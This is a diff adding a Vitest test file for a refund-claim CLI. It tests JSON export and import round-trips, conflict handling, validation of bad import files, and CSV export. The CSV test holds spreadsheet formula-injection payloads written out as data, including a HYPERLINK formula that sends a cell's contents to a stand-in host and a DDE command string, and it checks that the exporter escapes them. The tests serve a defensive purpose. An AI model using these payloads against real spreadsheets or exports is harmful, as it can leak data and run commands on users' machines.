@@ -1,0 +1,349 @@
+import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { claimFlags, run } from '../helpers/cli.js';
+import { buildEveryStatus, EVERY_STATUS } from '../helpers/every-status.js';
+import { parseCsv } from '../helpers/csv.js';
+import { tempDir } from '../helpers/temp.js';
+
+const IDS = EVERY_STATUS.map((_, index) => `RC-${String(index + 1).padStart(4, '0')}`);
+
+/** Every view a user or script has of a data directory, as text. */
+async function views(home: string, ids = IDS): Promise<Record<string, string>> {
+  const shown: Record<string, string> = {};
+  for (const id of ids) {
+    const result = await run(['show', id, '--json'], { home });
+    expect(result.code, result.stderr).toBe(0);
+    shown[id] = result.stdout;
+  }
+  shown.list = (await run(['list', '--json'], { home })).stdout;
+  shown.status = (await run(['status', '--json'], { home })).stdout;
+  return shown;
+}
+
+// Building eleven claims through the real commands takes a while: once for the whole file.
+let source: string;
+let backup: string;
+let evidenceDir: string;
+let original: Record<string, string>;
+
+beforeAll(async () => {
+  source = mkdtempSync(join(tmpdir(), 'refund-claim-source-'));
+  await buildEveryStatus(source);
+  backup = join(source, 'backup.json');
+  evidenceDir = join(source, 'evidence-copy');
+  const exported = await run(['export', '--out', backup, '--with-evidence', evidenceDir], { home: source });
+  expect(exported.code, exported.stderr).toBe(0);
+  expect(exported.stdout).toBe('');
+  expect(exported.stderr).toBe(`Exported 11 claims to ${backup}.\nCopied 3 evidence files to ${evidenceDir}.\n`);
+  original = await views(source);
+}, 120_000);
+
+afterAll(() => rmSync(source, { recursive: true, force: true }));
+
+describe('export and import', () => {
+  it('covers every status in the set it round-trips', () => {
+    const statuses = IDS.map((id) => (JSON.parse(original[id] ?? '{}') as { status: string }).status);
+    expect(statuses).toEqual([...EVERY_STATUS]);
+  });
+
+  it('writes a versioned file whose claims are exactly what show --json prints', () => {
+    const file = JSON.parse(readFileSync(backup, 'utf8')) as Record<string, unknown> & { claims: unknown[] };
+    expect(Object.keys(file)).toEqual(['format', 'version', 'exportedAt', 'accounts', 'claims']);
+    expect(file).toMatchObject({ format: 'refund-claim-export', version: 1, exportedAt: '2026-11-20T12:00:00.000Z' });
+    expect(file.accounts).toEqual([
+      { name: 'Acme Shoes', advertiserId: '7012345678901', email: 'ads@acme.test', updatedAt: expect.any(String) },
+      { name: 'Café Lumière', advertiserId: null, email: 'hello@cafe.test', updatedAt: '2026-11-01T09:00:00.000Z' },
+    ]);
+    expect(file.claims).toEqual(IDS.map((id) => JSON.parse(original[id] ?? '') as unknown));
+  });
+
+  it('restores every claim into a fresh data directory exactly: show --json, list and status are identical', async () => {
+    const target = tempDir();
+    const result = await run(['import', backup, '--with-evidence', evidenceDir], { home: target });
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stdout).toBe(`${IDS.join('\n')}\n`);
+    expect(result.stderr).toBe(`Imported 11 claims from ${backup}.\nCopied 3 evidence files.\n`);
+    expect(await views(target)).toEqual(original);
+    // The evidence came along: the completeness check finds every stored copy intact.
+    const check = await run(['check', '8'], { home: target });
+    expect(check.stdout).not.toMatch(/missing|altered/);
+    expect(readdirSync(join(target, 'evidence')).sort()).toEqual(readdirSync(evidenceDir).sort());
+    // And exporting it again gives the same file, byte for byte.
+    const again = await run(['export'], { home: target });
+    expect(again.stdout).toBe(readFileSync(backup, 'utf8'));
+  });
+
+  it('says so when the evidence files are not brought along', async () => {
+    const target = tempDir();
+    const result = await run(['import', backup], { home: target });
+    expect(result.code).toBe(0);
+    expect(result.stderr).toContain(
+      'Evidence files are not included: 3 of 3 files the claims use are not in this data directory, and `refund-claim verify <id>` will report them missing.',
+    );
+    // Bringing them afterwards: the same file, skipping the claims already here.
+    const later = await run(['import', backup, '--with-evidence', evidenceDir, '--on-conflict', 'skip'], {
+      home: target,
+    });
+    expect(later.code, later.stderr).toBe(0);
+    expect(later.stdout).toBe('');
+    expect(later.stderr).toContain('Copied 3 evidence files.');
+    expect((await run(['check', '8'], { home: target })).stdout).not.toMatch(/missing/);
+  });
+
+  it('refuses IDs that already exist with exit 1, naming them and the flag, and imports nothing', async () => {
+    const target = tempDir();
+    expect((await run(claimFlags({ '--promotion-id': '999' }), { home: target })).code).toBe(0);
+    const before = (await run(['list', '--json'], { home: target })).stdout;
+    const result = await run(['import', backup, '--with-evidence', evidenceDir], { home: target });
+    expect(result.code).toBe(1);
+    expect(result.stdout).toBe('');
+    expect(result.stderr).toBe(
+      'error: RC-0001 already exists in this data directory; nothing was imported.\n' +
+        '  Pass --on-conflict skip to keep the existing claims, or --on-conflict renumber to import them under new IDs.\n',
+    );
+    expect((await run(['list', '--json'], { home: target })).stdout).toBe(before);
+    expect(existsSync(join(target, 'evidence'))).toBe(false);
+  });
+
+  it('skips or renumbers taken IDs when told to', async () => {
+    const target = tempDir();
+    await run(claimFlags({ '--promotion-id': '999' }), { home: target });
+    await run(claimFlags({ '--promotion-id': '998' }), { home: target });
+    const mine = await run(['show', '1', '--json'], { home: target });
+
+    const renumbered = await run(['import', backup, '--on-conflict', 'renumber'], { home: target });
+    expect(renumbered.code, renumbered.stderr).toBe(0);
+    expect(renumbered.stdout.trim().split('\n')).toEqual(['RC-0012', 'RC-0013', ...IDS.slice(2)]);
+    expect(renumbered.stderr).toContain('Renumbered (the ID was taken): RC-0001 → RC-0012, RC-0002 → RC-0013.');
+    expect((await run(['show', '1', '--json'], { home: target })).stdout).toBe(mine.stdout);
+    const moved = await run(['show', '12', '--json'], { home: target });
+    expect(moved.stdout).toBe((original['RC-0001'] ?? '').replace('"id": "RC-0001"', '"id": "RC-0012"'));
+    for (const id of IDS.slice(2))
+      expect((await run(['show', id, '--json'], { home: target })).stdout).toBe(original[id]);
+
+    const skipped = await run(['import', backup, '--on-conflict', 'skip'], { home: target });
+    expect(skipped.code).toBe(0);
+    expect(skipped.stderr).toContain(
+      `Imported 0 claims from ${backup}.\nSkipped (already here, left as they are): ${IDS.join(', ')}.`,
+    );
+    expect(JSON.parse((await run(['list', '--json'], { home: target })).stdout)).toHaveLength(13);
+  });
+
+  it('reads the file from standard input with -', async () => {
+    const target = tempDir();
+    const result = await run(['import', '-'], { home: target, input: readFileSync(backup, 'utf8') });
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stderr).toContain('Imported 11 claims from standard input.');
+  });
+
+  it('refuses a bad file with exit 2, naming the file and the problem, and writes nothing', async () => {
+    const file = JSON.parse(readFileSync(backup, 'utf8')) as {
+      version: number;
+      claims: { status: string; amounts: Record<string, unknown>; events: { data: Record<string, unknown> }[] }[];
+    };
+    const variant = (change: (copy: typeof file) => void): string => {
+      const copy = structuredClone(file);
+      change(copy);
+      return JSON.stringify(copy);
+    };
+    const cases: [string, string, string][] = [
+      ['not json', '{"format": ', 'is not JSON ('],
+      ['other json', '[1, 2]', 'bad.json: the file is not an object; nothing was imported.'],
+      [
+        'other format',
+        '{"format": "something-else"}',
+        'bad.json is not a refund-claim export (its "format" is "something-else"',
+      ],
+      [
+        'newer version',
+        variant((copy) => (copy.version = 2)),
+        'bad.json is export version 2; this refund-claim reads version 1. Nothing was imported.',
+      ],
+      [
+        'bad amount in the last claim',
+        variant((copy) => ((copy.claims[10]?.amounts ?? {}).charged = '12.345')),
+        'bad.json: claims[10] (RC-0011).amounts.charged "12.345" has more than 2 decimals for USD; nothing was imported.',
+      ],
+      [
+        'status that its events contradict',
+        variant((copy) => ((copy.claims[5] ?? { status: '' }).status = 'approved')),
+        `bad.json: claims[5] (RC-0006).status is "approved", but the claim's events make it "denied"; nothing was imported.`,
+      ],
+      [
+        'unknown key in event data',
+        variant((copy) => ((copy.claims[1]?.events[1] ?? { data: {} }).data.hack = 1)),
+        'bad.json: claims[1] (RC-0002).events[1].data has an unknown key "hack"; nothing was imported.',
+      ],
+      [
+        'move that does not fit',
+        variant((copy) =>
+          copy.claims[0]?.events.push({
+            type: 'decision',
+            at: '2026-11-20',
+            note: null,
+            recordedAt: '2026-11-20T12:00:00.000Z',
+            data: { decision: 'approved' },
+          } as never),
+        ),
+        'bad.json: claims[0] (RC-0001).events[2] (decision) cannot happen to a draft claim; nothing was imported.',
+      ],
+    ];
+    for (const [name, text, message] of cases) {
+      const target = tempDir();
+      const path = join(target, 'bad.json');
+      writeFileSync(path, text);
+      const result = await run(['import', 'bad.json'], { home: target });
+      expect({ name, code: result.code }).toEqual({ name, code: 2 });
+      expect(result.stderr, name).toContain(message);
+      expect(result.stderr.trimEnd().split('\n').length, name).toBeLessThanOrEqual(2);
+      expect(JSON.parse((await run(['list', '--json'], { home: target })).stdout), name).toEqual([]);
+    }
+    const missing = await run(['import', 'nowhere.json'], { home: tempDir() });
+    expect(missing.code).toBe(2);
+    expect(missing.stderr).toContain('import nowhere.json: cannot read it (no such file).');
+  });
+
+  it('writes CSV only without --with-evidence, and refuses an --out in a missing directory', async () => {
+    const home = tempDir();
+    const csv = await run(['export', '--format', 'csv', '--with-evidence', 'x'], { home });
+    expect(csv.code).toBe(2);
+    expect(csv.stderr).toContain('--with-evidence goes with --format json');
+    const out = await run(['export', '--out', join(home, 'no', 'such', 'dir.json')], { home });
+    expect(out.code).toBe(2);
+    expect(out.stderr).toContain('the directory');
+    const format = await run(['export', '--format', 'xml'], { home });
+    expect(format.code).toBe(2);
+  });
+});
+
+describe('export --format csv', () => {
+  const HOSTILE = {
+    account: '=HYPERLINK("http://evil.test/?"&A1,"Click")',
+    promotion: '+SUM(1+1)*cmd|" /C calc"!A0',
+    description: '-2+3 looks like a sum; it is the start of the description, with "quotes", commas\nand a second line.',
+    ticket: '@SUM(A1:A9)',
+  };
+
+  it('writes one row per claim with SPEC columns, neutralising formula injection', async () => {
+    const home = tempDir();
+    expect(
+      (
+        await run(
+          claimFlags({
+            '--account-name': HOSTILE.account,
+            '--promotion-name': HOSTILE.promotion,
+            '--description': HOSTILE.description,
+          }),
+          { home },
+        )
+      ).code,
+    ).toBe(0);
+    await run(['submit', '1', '--ticket', HOSTILE.ticket, '--on', '2026-11-18'], { home });
+    await run(
+      [
+        'new',
+        '--no-input',
+        '--channel',
+        'tiktok-promote',
+        '--reason',
+        'accidental-charge',
+        '--account-name',
+        'Café Lumière',
+        '--email',
+        'hello@cafe.test',
+        '--promotion-id',
+        'PRM-7',
+        '--charged',
+        '5000',
+        '--currency',
+        'JPY',
+        '--charge-date',
+        '2026-11-01',
+        '--description',
+        'A Promote boost was bought by accident from the shop phone.',
+      ],
+      { home },
+    );
+    const out = join(home, 'claims.csv');
+    const result = await run(['export', '--format', 'csv', '--out', out], { home });
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stderr).toBe(`Exported 2 claims to ${out}.\n`);
+    const text = readFileSync(out, 'utf8');
+    // A byte-order mark for Excel, CRLF line ends as RFC 4180 has them.
+    expect(text.startsWith('\uFEFFid,status,')).toBe(true);
+    expect(text.endsWith('\r\n')).toBe(true);
+    const rows = parseCsv(text.slice(1));
+    expect(rows[0]).toEqual([
+      'id',
+      'status',
+      'channel',
+      'reason',
+      'account_name',
+      'advertiser_id',
+      'promotion_id',
+      'promotion_name',
+      'currency',
+      'charged',
+      'requested',
+      'recovered',
+      'ticket_number',
+      'next_action',
+      'due',
+      'created',
+      'description',
+    ]);
+    expect(rows.slice(1)).toEqual([
+      [
+        'RC-0001',
+        'submitted',
+        'tiktok-ads',
+        'incorrect-charge',
+        `'${HOSTILE.account}`,
+        '7012345678901',
+        '1790000001',
+        `'${HOSTILE.promotion}`,
+        'USD',
+        '500.00',
+        '200.00',
+        '',
+        `'${HOSTILE.ticket}`,
+        'followup',
+        '2026-11-23',
+        '2026-11-20',
+        `'${HOSTILE.description}`,
+      ],
+      [
+        'RC-0002',
+        'draft',
+        'tiktok-promote',
+        'accidental-charge',
+        'Café Lumière',
+        '',
+        'PRM-7',
+        '',
+        'JPY',
+        '5000',
+        '5000',
+        '',
+        '',
+        'submit',
+        '2026-11-24',
+        '2026-11-20',
+        'A Promote boost was bought by accident from the shop phone.',
+      ],
+    ]);
+    // No cell a spreadsheet would evaluate: each starts with something other than = + - @ tab CR.
+    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Standard output by default.
+    const piped = await run(['export', '--format', 'csv'], { home });
+    expect(piped.stdout).toBe(text);
+  });
+
+  it('writes the header alone when there are no claims', async () => {
+    const result = await run(['export', '--format', 'csv'], { home: tempDir() });
+    expect(result.code).toBe(0);
+    expect(parseCsv(result.stdout.slice(1))).toHaveLength(1);
+  });
+});
